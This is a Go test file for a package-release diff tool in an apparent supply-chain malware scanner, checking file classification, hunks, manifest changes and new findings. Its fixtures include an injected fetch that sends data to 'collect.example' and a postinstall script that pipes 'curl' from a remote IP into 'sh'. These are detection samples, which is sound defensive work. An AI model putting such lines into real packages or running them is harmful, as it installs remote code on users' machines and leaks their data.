package diff

import (
	"context"
	"io/fs"
	"slices"
	"sort"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/analyze"
)

// side builds a release from path → contents; a path ending in "*" is
// executable.
func side(files map[string]string) Side {
	var s Side
	for p, data := range files {
		mode := fs.FileMode(0o644)
		if strings.HasSuffix(p, "*") {
			p, mode = strings.TrimSuffix(p, "*"), 0o755
		}
		s.Files = append(s.Files, analyze.File{Path: p, Mode: mode, Data: []byte(data)})
	}
	sort.Slice(s.Files, func(i, j int) bool { return s.Files[i].Path < s.Files[j].Path })
	return s
}

func pkgJSON(version, extra string) string {
	return `{"name":"tiny","version":"` + version + `","main":"index.js"` + extra + `}`
}

const tinyIndex = "'use strict';\nmodule.exports = function pad(s, n) {\n  s = String(s);\n  while (s.length < n) s = ' ' + s;\n  return s;\n};\n"

func paths[T any](xs []T, path func(T) string) []string {
	out := []string{}
	for _, x := range xs {
		out = append(out, path(x))
	}
	return out
}

func TestCompare(t *testing.T) {
	base := map[string]string{"package.json": pkgJSON("1.0.0", ""), "index.js": tinyIndex, "README.md": "# tiny\n"}
	with := func(changes map[string]string, drop ...string) map[string]string {
		out := map[string]string{}
		for k, v := range base {
			if !slices.Contains(drop, k) {
				out[k] = v
			}
		}
		for k, v := range changes {
			out[k] = v
		}
		return out
	}
	tests := []struct {
		name  string
		a, b  map[string]string
		check func(t *testing.T, d *Diff)
	}{
		{
			name: "identical releases", a: base, b: base,
			check: func(t *testing.T, d *Diff) {
				if len(d.Files.Changed)+len(d.Files.Added)+len(d.Files.Removed) != 0 || d.Files.Unchanged != 3 {
					t.Errorf("files: %+v", d.Files)
				}
				if len(d.Manifest.Changes) != 0 || len(d.NewFindings) != 0 || len(d.Capabilities.Appeared) != 0 {
					t.Errorf("changes in identical releases: %+v %+v %+v", d.Manifest, d.NewFindings, d.Capabilities)
				}
				if d.A.Name != "tiny" || d.B.Version != "1.0.0" || d.B.Verdict != analyze.Clean {
					t.Errorf("identity from package.json: %+v", d.B)
				}
			},
		},
		{
			name: "added, removed and classified files",
			a:    base,
			b: with(map[string]string{"package.json": pkgJSON("1.0.1", ""), "lib/util.js": "module.exports = 1;\n",
				"bin/tiny": "#!/usr/bin/env node\nrequire('../index.js');\n", "data.json": "{}", "logo.png": "\x89PNG\x00\x00"}, "README.md"),
			check: func(t *testing.T, d *Diff) {
				got := map[string]Class{}
				for _, f := range d.Files.Added {
					got[f.Path] = f.Class
				}
				want := map[string]Class{"lib/util.js": ClassCode, "bin/tiny": ClassCode, "data.json": ClassData, "logo.png": ClassBinary}
				for p, c := range want {
					if got[p] != c {
						t.Errorf("added %s: class %q, want %q (all: %v)", p, got[p], c, got)
					}
				}
				if r := paths(d.Files.Removed, func(f FileEntry) string { return f.Path + ":" + string(f.Class) }); !slices.Equal(r, []string{"README.md:docs"}) {
					t.Errorf("removed %v", r)
				}
				if c := paths(d.Files.Changed, func(f FileChange) string { return f.Path + ":" + string(f.Class) }); !slices.Equal(c, []string{"package.json:manifest"}) {
					t.Errorf("changed %v", c)
				}
			},
		},
		{
			name: "changed code with a hunk, sizes and hashes",
			a:    base,
			b:    with(map[string]string{"index.js": strings.Replace(tinyIndex, "  return s;\n", "  fetch('https://collect.example/p?d=' + s);\n  return s;\n", 1)}),
			check: func(t *testing.T, d *Diff) {
				if len(d.Files.Changed) != 1 {
					t.Fatalf("changed: %+v", d.Files.Changed)
				}
				c := d.Files.Changed[0]
				if c.Path != "index.js" || c.Class != ClassCode || c.Delta != c.SizeB-c.SizeA || c.Delta <= 0 || c.SHA256A == c.SHA256B {
					t.Errorf("change: %+v", c)
				}
				if c.Text == nil || c.Text.Added != 1 || c.Text.Removed != 0 || len(c.Text.Hunks) != 1 {
					t.Fatalf("text: %+v", c.Text)
				}
				h := c.Text.Hunks[0]
				if h.OldStart != 2 || h.NewStart != 2 || h.OldLines != 5 || h.NewLines != 6 {
					t.Errorf("hunk header @@ -%d,%d +%d,%d @@", h.OldStart, h.OldLines, h.NewStart, h.NewLines)
				}
				if !slices.ContainsFunc(h.Lines, func(l Line) bool { return l.Op == "+" && strings.Contains(l.Text, "collect.example") }) {
					t.Errorf("the added line is not in the hunk: %+v", h.Lines)
				}
				if !slices.ContainsFunc(d.Capabilities.Appeared, func(c Capability) bool { return c.Name == CapNetwork }) {
					t.Errorf("network did not appear: %+v", d.Capabilities)
				}
			},
		},
		{
			name: "execute bit added",
			a:    base,
			b:    with(map[string]string{"index.js*": tinyIndex}, "index.js"),
			check: func(t *testing.T, d *Diff) {
				if len(d.Files.Changed) != 1 || !d.Files.Changed[0].ModeChanged || !d.Files.Changed[0].ExecutableB || d.Files.Changed[0].Text != nil {
					t.Errorf("mode change: %+v", d.Files.Changed)
				}
			},
		},
		{
			name: "binary change has no line diff",
			a:    with(map[string]string{"native.node": "\x7fELF\x02\x01\x01\x00aaaa"}),
			b:    with(map[string]string{"native.node": "\x7fELF\x02\x01\x01\x00bbbb"}),
			check: func(t *testing.T, d *Diff) {
				if len(d.Files.Changed) != 1 || d.Files.Changed[0].Class != ClassBinary || d.Files.Changed[0].Text != nil {
					t.Errorf("binary change: %+v", d.Files.Changed)
				}
			},
		},
		{
			name: "postinstall added: lifecycle flagged, capabilities and findings new",
			a:    base,
			b: with(map[string]string{
				"package.json": pkgJSON("1.0.1", `,"scripts":{"postinstall":"node setup.js","test":"tap"}`),
				"setup.js":     "const cp = require('child_process');\ncp.exec('curl -s https://203.0.113.7/x | sh');\n",
			}),
			check: func(t *testing.T, d *Diff) {
				var post *ManifestChange
				for i, c := range d.Manifest.Changes {
					if c.Field == "scripts" && c.Key == "postinstall" {
						post = &d.Manifest.Changes[i]
					}
				}
				if post == nil || post.Change != Added || !post.Lifecycle || !post.InstallTime || post.New != "node setup.js" {
					t.Fatalf("postinstall: %+v in %+v", post, d.Manifest.Changes)
				}
				names := paths(d.Capabilities.Appeared, func(c Capability) string { return c.Name })
				for _, want := range []string{CapInstallScript, CapProcessExec} {
					if !slices.Contains(names, want) {
						t.Errorf("%s did not appear: %v", want, names)
					}
				}
				if len(d.NewFindings) == 0 || d.B.Verdict == analyze.Clean {
					t.Errorf("new findings %d, B verdict %s", len(d.NewFindings), d.B.Verdict)
				}
			},
		},
		{
			name: "a finding that moved down two lines is not new",
			a:    map[string]string{"package.json": pkgJSON("1.0.0", ""), "index.js": "const cp = require('child_process');\ncp.execSync('git rev-parse HEAD');\n"},
			b:    map[string]string{"package.json": pkgJSON("1.0.1", ""), "index.js": "// a comment\n// another\nconst cp = require('child_process');\ncp.execSync('git rev-parse HEAD');\n"},
			check: func(t *testing.T, d *Diff) {
				if len(d.B.Report.Findings) == 0 {
					t.Fatal("the fixture should trigger process-exec")
				}
				if len(d.NewFindings) != 0 || len(d.GoneFindings) != 0 {
					t.Errorf("line shift made findings new %+v / gone %+v", d.NewFindings, d.GoneFindings)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d, err := Compare(context.Background(), side(tt.a), side(tt.b), Options{})
			if err != nil {
				t.Fatal(err)
			}
			tt.check(t, d)
		})
	}
}

func TestCompareNotLoaded(t *testing.T) {
	a := side(map[string]string{"package.json": pkgJSON("1.0.0", "")})
	b := side(map[string]string{"package.json": pkgJSON("1.0.1", "")})
	b.NotLoaded = []NotLoaded{{Path: "bin/huge", Size: 64 << 20}}
	d, err := Compare(context.Background(), a, b, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Files.NotCompared) != 1 || d.Files.NotCompared[0] != (NotCompared{Path: "bin/huge", SizeA: -1, SizeB: 64 << 20}) {
		t.Errorf("not compared: %+v", d.Files.NotCompared)
	}
}

func TestCompareUsesGivenReport(t *testing.T) {
	a, b := side(map[string]string{"index.js": "1"}), side(map[string]string{"index.js": "2"})
	b.Report = &analyze.Report{Package: "given", Verdict: analyze.Suspicious, Score: 12, Findings: []analyze.Finding{}}
	d, err := Compare(context.Background(), a, b, Options{NoHunks: true})
	if err != nil {
		t.Fatal(err)
	}
	if d.B.Report != b.Report || d.B.Verdict != analyze.Suspicious || d.Files.Changed[0].Text != nil {
		t.Errorf("B summary %+v, change %+v", d.B, d.Files.Changed)
	}
}

func TestCompareCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Compare(ctx, side(map[string]string{"index.js": "1"}), side(map[string]string{"index.js": "2"}), Options{}); err == nil {
		t.Error("Compare with a cancelled context succeeded")
	}
}
